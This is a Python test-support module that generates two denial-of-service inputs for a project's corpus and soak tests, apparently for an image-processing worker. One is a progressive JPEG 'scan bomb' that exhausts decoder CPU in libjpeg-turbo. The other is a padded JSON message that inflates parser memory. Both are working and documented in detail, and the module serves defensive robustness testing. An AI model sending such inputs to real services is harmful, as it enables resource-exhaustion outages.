"""Attack inputs shared by the corpus (make_corpus.py --attacks) and the soak (--attacks).

Each generator is deterministic (same arguments, same bytes) and documents the attack it
reproduces. Standard library only.

- progressive_scan_bomb: a small progressive JPEG whose decoding costs CPU per scan.
- padded_json: a valid facerec message inflated by a field the worker does not use.
"""
import base64
import hashlib
import json
import struct


def _segment(marker, payload):
    """A JPEG marker segment: 0xFF, the marker byte, a 2-byte length, the payload."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


class _BitWriter:
    """Entropy-coded data, most significant bit first, with JPEG's byte stuffing (0x00
    after every 0xFF) and the final byte padded with 1 bits."""

    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.nbits = 0

    def put(self, value, nbits):
        self.acc = (self.acc << nbits) | (value & ((1 << nbits) - 1))
        self.nbits += nbits
        while self.nbits >= 8:
            self.nbits -= 8
            self._byte((self.acc >> self.nbits) & 0xFF)
        self.acc &= (1 << self.nbits) - 1

    def _byte(self, b):
        self.out.append(b)
        if b == 0xFF:
            self.out.append(0x00)

    def finish(self):
        if self.nbits:
            self._byte(((self.acc << (8 - self.nbits)) | ((1 << (8 - self.nbits)) - 1)) & 0xFF)
            self.acc = self.nbits = 0
        return bytes(self.out)


def _dht(table_class, table_id, codes):
    """A DHT segment for `codes`: [(symbol, code length)] in canonical order (shortest
    first). The lengths must leave the all-ones code unused, as libjpeg requires."""
    counts = [0] * 16
    for _, length in codes:
        counts[length - 1] += 1
    return _segment(0xC4, bytes([table_class << 4 | table_id]) + bytes(counts) + bytes(s for s, _ in codes))


def progressive_scan_bomb(width=6000, height=6000, scans=4000):
    """A grayscale progressive JPEG (SOF2) of `width` x `height` with `scans` + 1 scans.

    The attack: a decoder of progressive JPEGs walks every block of the image once per scan,
    and the JPEG format puts no limit on the number of scans. Here each AC scan codes all of
    the image's blocks as end-of-band runs (symbol EOB14 with 14 extra bits: 32767 blocks per
    symbol), so a scan is ~50 bytes while costing the decoder a pass over every block:
    libjpeg-turbo spends ~2.6 ms of CPU per scan at 6000 x 6000 (562,500 blocks), so 4000
    scans (~0.3 MB) cost ~10 s of CPU, and the image is then a 36 MP gray square.

    Layout: SOI, DQT (all ones), SOF2 (8-bit, one component, 1x1 sampling), DHT DC table 0
    (symbol 0, code `0`), DHT AC table 0 (EOB14 `0`, the remainder's EOBn `10`), one DC-first
    scan coding every block's DC difference as 0, then `scans` AC first scans (Ss=1, Se=63,
    Ah=0, Al=0), EOI. Repeating Ah=0/Al=0 scans is not even a progression warning for
    libjpeg-turbo; the image decodes as uniform gray (128).
    """
    if not (0 < width <= 65535 and 0 < height <= 65535 and scans >= 0):
        raise ValueError("width and height must be in 1..65535, scans >= 0")
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = bytearray(b"\xff\xd8")  # SOI
    out += _segment(0xDB, b"\x00" + b"\x01" * 64)  # DQT: table 0, 8-bit, all ones
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")  # SOF2
    out += _dht(0, 0, [(0x00, 1)])

    # EOB runs: full runs of 32767 blocks (EOB14, 14 extra bits), then the rest as one EOBn.
    full, rest = divmod(blocks, 32767)
    runs = [(14, 32767)] * full
    if rest:
        runs.append((rest.bit_length() - 1, rest))
    rest_symbol = runs[-1][0] << 4
    if rest_symbol == 0xE0:
        ac_codes = {0xE0: (0b0, 1)}
        out += _dht(1, 0, [(0xE0, 1)])
    else:
        ac_codes = {0xE0: (0b0, 1), rest_symbol: (0b10, 2)}
        out += _dht(1, 0, [(0xE0, 1), (rest_symbol, 2)])

    # DC-first scan: component 1, DC table 0, Ss=0, Se=0, Ah=Al=0; one 1-bit `0` per block.
    out += _segment(0xDA, b"\x01\x01\x00\x00\x00\x00")
    out += bytes(blocks // 8)
    if blocks % 8:
        out.append((0xFF >> (blocks % 8)) & 0xFF)  # the last bits `0`, padded with 1s

    # One AC scan's entropy data; every AC scan is the same bytes.
    bits = _BitWriter()
    for r, run in runs:
        code, length = ac_codes[r << 4]
        bits.put(code, length)
        if r:
            bits.put(run - (1 << r), r)
    ac_scan = _segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + bits.finish()
    out += ac_scan * scans
    out += b"\xff\xd9"  # EOI
    return bytes(out)


def padded_json(image_bytes, name, pad_elements, image_hash=None):
    """A valid facerec JSON message for `image_bytes` with an extra field `"pad"`: a JSON
    array of `pad_elements` zeros (2 bytes each in the body).

    The attack: a message within the size limit whose unused field the worker parses into a
    generic JSON value anyway; every array element becomes a heap value many times its 2 bytes
    in the body. A 62 MB message made this way took the worker from 33 MB to 1.13 GB RSS. The
    message itself is valid: it must be processed (stored) as if `pad` were absent.
    `image_hash` defaults to the SHA-256 (hex) of the image bytes.
    """
    head = {"hash": image_hash or hashlib.sha256(image_bytes).hexdigest(), "name": name,
            "image": base64.b64encode(image_bytes).decode()}
    body = json.dumps(head).encode()
    pad = b"[]" if pad_elements <= 0 else b"[" + b"0," * (pad_elements - 1) + b"0]"
    return body[:-1] + b', "pad": ' + pad + b"}"
